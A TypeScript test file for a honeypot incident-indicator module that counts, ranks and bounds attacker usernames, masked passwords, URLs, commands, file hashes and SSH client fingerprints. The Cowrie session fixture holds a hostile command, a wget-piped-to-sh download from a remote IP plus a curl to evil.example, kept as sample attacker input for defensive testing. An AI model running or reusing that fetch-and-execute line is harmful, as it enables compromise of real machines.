import { expect, test } from "bun:test"
import {
  compareCodePoints,
  countIndicators,
  INDICATOR_SEARCH_MAX,
  indicatorSearchHref,
  indicatorsFromCounts,
} from "../../src/domain/indicators.ts"

/** An incident's indicators, counted in memory: what each kind takes, how values are counted, ranked and bounded. */

const FP = (c: string) => c.repeat(32)
const masked = (length: number, fingerprint: string) => ({
  masked: "*".repeat(Math.min(length, 32)),
  length,
  fingerprint,
})
const ev = (action: string, attackerInput: Record<string, unknown>) => ({ action, attackerInput })

/** A Cowrie session as stored: logins, a success, commands, a download, an upload, the client's details on each. */
const client = { clientVersion: "SSH-2.0-Go", hassh: "b5752e36ba6c5979a575e43178908adf" }
const cowrie = [
  ...["root", "root", "admin", "root", "admin", "pi"].map((u, i) =>
    ev("login_attempt", { username: u, password: masked(6 + (i % 2), FP(i % 2 === 0 ? "a" : "b")), ...client }),
  ),
  ev("login_success", { username: "root", password: masked(6, FP("a")), ...client }),
  ev("command", { command: "uname -a", ...client }),
  ev("command", {
    command: "cd /tmp; wget http://198.51.100.7/x.sh -O- | sh; curl -s https://evil.example/b",
    ...client,
  }),
  ev("file_download", { url: "http://198.51.100.7/x.sh", shasum: "e3b0c442".repeat(8), ...client }),
  ev("file_upload", { fileName: "bot.arm7", path: "/tmp/bot.arm7", shasum: "ab".repeat(32), ...client }),
  ev("http_request", { path: "/admin", userAgent: "Mozilla/5.0 zgrab" }),
]

test("a Cowrie session gives each kind its distinct values, counted, most frequent first", () => {
  const { groups, events } = countIndicators(cowrie)
  expect(events).toBe(cowrie.length)
  const kind = (k: string) => groups.find((g) => g.kind === k)
  expect(groups.map((g) => g.kind)).toEqual([
    "commands",
    "urls",
    "files",
    "hashes",
    "usernames",
    "passwords",
    "clients",
  ])
  expect(kind("usernames")?.shown).toEqual([
    { value: "root", label: "", count: 4 },
    { value: "admin", label: "", count: 2 },
    { value: "pi", label: "", count: 1 },
  ])
  // The URL of the download and the same URL inside the command are one value, counted twice.
  expect(kind("urls")?.shown).toEqual([
    { value: "http://198.51.100.7/x.sh", label: "", count: 2 },
    { value: "https://evil.example/b", label: "", count: 1 },
  ])
  expect(kind("commands")?.distinct).toBe(2)
  // The upload's destination path counts as a file; an HTTP request's path does not.
  expect(kind("files")?.shown.map((x) => x.value)).toEqual(["/tmp/bot.arm7", "bot.arm7"])
  expect(kind("hashes")?.shown.every((x) => x.label === "SHA-256")).toBe(true)
  // Passwords: the fingerprint and the length, never anything else.
  expect(kind("passwords")?.shown).toEqual([
    { value: FP("a"), label: "", count: 4, length: 6 },
    { value: FP("b"), label: "", count: 3, length: 7 },
  ])
  expect(kind("clients")?.shown).toEqual([
    // A tie goes by code point order: capitals before small letters.
    { value: "SSH-2.0-Go", label: "SSH client version", count: 11 },
    { value: "b5752e36ba6c5979a575e43178908adf", label: "HASSH", count: 11 },
    { value: "Mozilla/5.0 zgrab", label: "User agent", count: 1 },
  ])
})

test("a password that is not exactly a masked secret as the service writes one is no indicator at all", () => {
  const { groups } = countIndicators([
    ev("login_attempt", { password: "hunter2" }),
    ev("login_attempt", { password: { masked: "**", length: 6, fingerprint: FP("c") } }),
    ev("login_attempt", { password: masked(3, "") }),
    ev("login_attempt", { password: masked(3, "NOT-HEX-NOT-HEX-NOT-HEX-NOT-HEX!") }),
  ])
  expect(groups).toEqual([])
})

test("each kind keeps at most 20 values and counts the rest; other shapes of input are left alone", () => {
  const many = Array.from({ length: 50 }, (_, i) => ev("command", { command: `echo ${i}`, username: ["x", i] }))
  const { groups } = countIndicators([...many, ev("command", { command: "echo 7" }), { action: "x", attackerInput: 5 }])
  expect(groups).toHaveLength(1)
  expect(groups[0]?.shown).toHaveLength(20)
  expect(groups[0]?.distinct).toBe(50)
  expect(groups[0]?.shown[0]).toEqual({ value: "echo 7", label: "", count: 2 })
  // Ties in code point order, as PostgreSQL's "C" collation ranks them.
  expect(groups[0]?.shown.slice(1, 4).map((x) => x.value)).toEqual(["echo 0", "echo 1", "echo 10"])
})

test("counted rows from the database become the same groups; unknown kinds are dropped", () => {
  const out = indicatorsFromCounts(
    [
      { kind: "usernames", label: "", value: "admin", count: 2, distinct: 9 },
      { kind: "passwords", label: "8", value: FP("d"), count: 1, distinct: 1 },
      { kind: "elsewhere", label: "", value: "x", count: 1, distinct: 1 },
      { kind: "usernames", label: "", value: "root", count: 5, distinct: 9 },
    ],
    100,
  )
  expect(out).toEqual({
    events: 100,
    groups: [
      {
        kind: "usernames",
        distinct: 9,
        shown: [
          { value: "root", label: "", count: 5 },
          { value: "admin", label: "", count: 2 },
        ],
      },
      { kind: "passwords", distinct: 1, shown: [{ value: FP("d"), label: "", count: 1, length: 8 }] },
    ],
  })
})

test("a value's search link is its first line, URL-encoded, at most 200 code points", () => {
  expect(indicatorSearchHref(`a&b="<x>" #?/%`)).toBe(`/incidents?q=${encodeURIComponent(`a&b="<x>" #?/%`)}`)
  expect(indicatorSearchHref("\nfirst\nsecond")).toBe("/incidents?q=first")
  const long = "😀".repeat(500)
  const q = decodeURIComponent(indicatorSearchHref(long).slice("/incidents?q=".length))
  expect(Array.from(q)).toHaveLength(INDICATOR_SEARCH_MAX)
  expect(q).toBe("😀".repeat(INDICATOR_SEARCH_MAX))
})

test("code point order puts a character beyond U+FFFF after U+FFFD, as UTF-8 bytes do", () => {
  expect(compareCodePoints("\u{1F600}", "\uFFFD")).toBe(1)
  expect(compareCodePoints("ab", "abc")).toBeLessThan(0)
  expect(compareCodePoints("b", "a")).toBe(1)
  expect(compareCodePoints("x", "x")).toBe(0)
})
